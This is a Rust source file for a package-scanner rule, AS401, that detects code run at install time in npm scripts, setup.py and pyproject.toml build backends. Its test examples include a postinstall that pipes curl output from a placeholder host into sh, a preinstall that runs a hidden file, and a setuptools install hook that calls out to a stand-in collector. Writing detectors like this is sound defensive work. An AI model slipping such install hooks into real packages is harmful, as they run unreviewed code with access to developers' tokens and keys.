//! `AS401` install-time-execution: code the package runs when it is installed — npm
//! lifecycle scripts, custom setuptools commands and module-level code in `setup.py`,
//! and in-tree PEP 517 build backends.

use assay_core::{Evidence, Example, Family, Finding, RuleMeta, Severity};
use toml::{Table, Value};

use super::setup_py::{self, Effect};
use crate::container::{finding, shell};
use crate::lang::{self, Language, ParseBudget};
use crate::manifest::jsonc;
use crate::registry::{FileContext, Rule};

/// The rule.
pub struct InstallTimeExecution;

static META: RuleMeta = RuleMeta {
    id: "AS401",
    name: "install-time-execution",
    title: "Package runs code at install time",
    family: Family::SupplyChain,
    severity: Severity::Medium,
    cwe: &[829, 506],
    owasp_mcp: "MCP04:2025",
    cvss_vector: "CVSS:4.0/AV:N/AC:L/AT:P/PR:N/UI:P/VC:L/VI:H/VA:N/SC:N/SI:N/SA:N",
    summary: "Finds code that runs when the package is installed: npm `preinstall`, \
        `install` and `postinstall` scripts (`prepare` too, at low severity: it only runs \
        for git installs and in development), setuptools commands replaced through \
        `cmdclass` and module-level process or network calls in `setup.py`, and PEP 517 \
        build backends loaded from the source tree (`backend-path`). Native-module builds \
        (`node-gyp rebuild`, `prebuild-install`) are low; scripts that download, pipe \
        into a shell, run a hidden file or decode an obfuscated payload are high.",
    why: "Install scripts run with the installing user's rights before anyone looks at \
        the code — on developer machines and CI runners holding tokens and SSH keys. \
        They are the most common delivery mechanism of malicious packages; an MCP \
        server installed with `npx -y` runs them without a prompt.",
    remediation: "Avoid install-time code: ship prebuilt artifacts, build in `prepack` \
        instead of `postinstall`, and move setup work to an explicit command the user \
        runs. If a native build is unavoidable, keep the script to the build tool alone.",
    references: &[
        "https://docs.npmjs.com/cli/using-npm/scripts#life-cycle-operation-order",
        "https://cwe.mitre.org/data/definitions/829.html",
        "https://owasp.org/www-project-mcp-top-10/",
    ],
    examples: &[
        Example::flags(
            "package.json",
            "{\n  \"name\": \"mcp-weather\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {\n    \"postinstall\": \"curl -s https://cdn.weather.test/setup.sh | sh\"\n  }\n}\n",
        ),
        Example::flags(
            "package.json",
            "{\n  \"name\": \"mcp-notes\",\n  \"version\": \"2.1.0\",\n  \"scripts\": {\n    \"build\": \"tsc\",\n    \"preinstall\": \"node ./lib/.cache/init.js\"\n  }\n}\n",
        ),
        Example::flags(
            "setup.py",
            "import urllib.request\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n        urllib.request.urlopen(\"https://collect.test/i\").read()\n\nsetup(name=\"mcp-tools\", version=\"0.1\", cmdclass={\"install\": PostInstall})\n",
        ),
        Example::allows(
            "package.json",
            "{\n  \"name\": \"mcp-fs\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {\n    \"build\": \"tsc\",\n    \"test\": \"vitest run\",\n    \"prepack\": \"npm run build\"\n  }\n}\n",
        ),
        Example::allows(
            "setup.py",
            "import subprocess\nfrom setuptools import setup\n\nversion = subprocess.check_output([\"git\", \"describe\", \"--tags\"]).decode().strip()\nexec(open(\"mcp_tools/_meta.py\").read())\n\ndef helper():\n    subprocess.run([\"make\", \"docs\"])\n\nsetup(name=\"mcp-tools\", version=version, packages=[\"mcp_tools\"])\n",
        ),
        Example::allows(
            "pyproject.toml",
            "[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"hatchling.build\"\n\n[project]\nname = \"mcp-tools\"\nversion = \"0.1.0\"\n",
        ),
    ],
};

/// npm lifecycle scripts that run on install, with the context they run in.
const NPM_HOOKS: &[(&str, &str)] = &[
    ("preinstall", "before every `npm install` of the package"),
    ("install", "on every `npm install` of the package"),
    ("postinstall", "after every `npm install` of the package"),
    (
        "prepare",
        "when the package is installed from git, and in development",
    ),
];

/// Build and development tools: install scripts that only run these compile the
/// package's own native code, fetch its prebuilt binary or set up git hooks.
const BUILD_TOOLS: &[&str] = &[
    "node-gyp",
    "node-gyp-build",
    "prebuild-install",
    "node-pre-gyp",
    "cmake-js",
    "napi",
    "electron-rebuild",
    "husky",
    "patch-package",
    "tsc",
];

/// Manifests larger than this are not read.
const MAX_MANIFEST_BYTES: usize = crate::manifest::MAX_MANIFEST_BYTES;

impl Rule for InstallTimeExecution {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check_file(&self, file: &FileContext<'_>, out: &mut Vec<Finding>) {
        if file.text.len() > MAX_MANIFEST_BYTES {
            return;
        }
        match file.path.rsplit('/').next().unwrap_or(file.path) {
            "package.json" => check_npm(file, out),
            "setup.py" => check_setup_py(file, out),
            "pyproject.toml" => check_pyproject(file, out),
            _ => {}
        }
    }
}

fn check_npm(file: &FileContext<'_>, out: &mut Vec<Finding>) {
    let Some(root) = jsonc::parse(file.text) else {
        return;
    };
    let Some(scripts) = root.get("scripts") else {
        return;
    };
    for (hook, when) in NPM_HOOKS {
        let Some(member) = scripts.member(hook) else {
            continue;
        };
        let Some(command) = member.value.as_str() else {
            continue;
        };
        let (severity, signals) = judge_script(hook, command);
        let mut f = finding::at(
            &META,
            file,
            member.key_span.start..member.value.span.end,
            format!("npm `{hook}` script runs `{command}` {when}"),
        );
        f.severity = severity;
        f.evidence
            .push(Evidence::new("script", format!("{hook}: {command}")));
        f.evidence.extend(signals);
        out.push(f);
    }
}

/// The severity of an npm install script and the signals behind it.
fn judge_script(hook: &str, command: &str) -> (Severity, Vec<Evidence>) {
    let mut signals = Vec::new();
    if let Some(found) = shell::remote_execution(command) {
        signals.push(Evidence::new(
            "downloads and runs code",
            format!("{} {} {}", found.fetcher, found.how, found.runner),
        ));
    } else if let Some(tool) = shell::network_use(command) {
        signals.push(Evidence::new("uses the network", tool));
    }
    if let Some(file) = shell::hidden_script(command) {
        signals.push(Evidence::new("runs a hidden file", file));
    }
    if let Some(marker) = shell::obfuscation(command) {
        signals.push(Evidence::new("decodes or evaluates a payload", marker));
    }
    if !signals.is_empty() {
        return (Severity::High, signals);
    }
    let programs: Vec<String> = shell::parse(command)
        .iter()
        .flat_map(|p| &p.commands)
        .filter_map(shell::Command::program)
        .collect();
    let only_build_tools =
        !programs.is_empty() && programs.iter().all(|p| BUILD_TOOLS.contains(&p.as_str()));
    if only_build_tools {
        signals.push(Evidence::new(
            "counter-evidence",
            "only a native-module build or development tool runs",
        ));
        (Severity::Low, signals)
    } else if hook == "prepare" {
        (Severity::Low, signals)
    } else {
        (Severity::Medium, signals)
    }
}

fn check_setup_py(file: &FileContext<'_>, out: &mut Vec<Finding>) {
    let parsed;
    let tree = match file.tree {
        Some(tree) => tree,
        None => match lang::parse(Language::Python, file.text, &ParseBudget::default()) {
            Ok(tree) => {
                parsed = tree;
                &parsed
            }
            Err(_) => return,
        },
    };
    for hook in setup_py::hooks(file.text, tree.root_node()) {
        let mut f = finding::at(&META, file, hook.span.clone(), hook.message.clone());
        f.severity = hook.severity;
        for call in hook.calls.iter().take(8) {
            let what = match call.effect {
                Effect::Network => "network call",
                Effect::Executes => "process or code execution",
            };
            let line =
                crate::text::location(file.path, file.text, call.span.start, call.span.end).line;
            f.evidence.push(Evidence::new(
                what,
                format!("`{}` at line {line}", call.callee),
            ));
        }
        out.push(f);
    }
}

fn check_pyproject(file: &FileContext<'_>, out: &mut Vec<Finding>) {
    let Ok(root) = file.text.parse::<Table>() else {
        return;
    };
    let Some(build) = root.get("build-system").and_then(Value::as_table) else {
        return;
    };
    let Some(paths) = build.get("backend-path").and_then(Value::as_array) else {
        return;
    };
    let backend = build
        .get("build-backend")
        .and_then(Value::as_str)
        .unwrap_or("(unnamed)");
    let Some(at) = key_offset(file.text, "backend-path") else {
        return;
    };
    let mut f = finding::at(
        &META,
        file,
        at..at + "backend-path".len(),
        format!(
            "The build backend `{backend}` is loaded from the package's own source tree: its code runs on every build or install from source"
        ),
    );
    let dirs: Vec<&str> = paths.iter().filter_map(Value::as_str).collect();
    f.evidence
        .push(Evidence::new("backend-path", dirs.join(", ")));
    out.push(f);
}

/// The offset of `key` where it starts a line (as a TOML key).
fn key_offset(text: &str, key: &str) -> Option<usize> {
    let mut offset = 0;
    for line in text.split_inclusive('\n') {
        let trimmed = line.trim_start();
        if let Some(rest) = trimmed.strip_prefix(key)
            && rest.trim_start().starts_with('=')
        {
            return Some(offset + line.len() - trimmed.len());
        }
        offset += line.len();
    }
    None
}
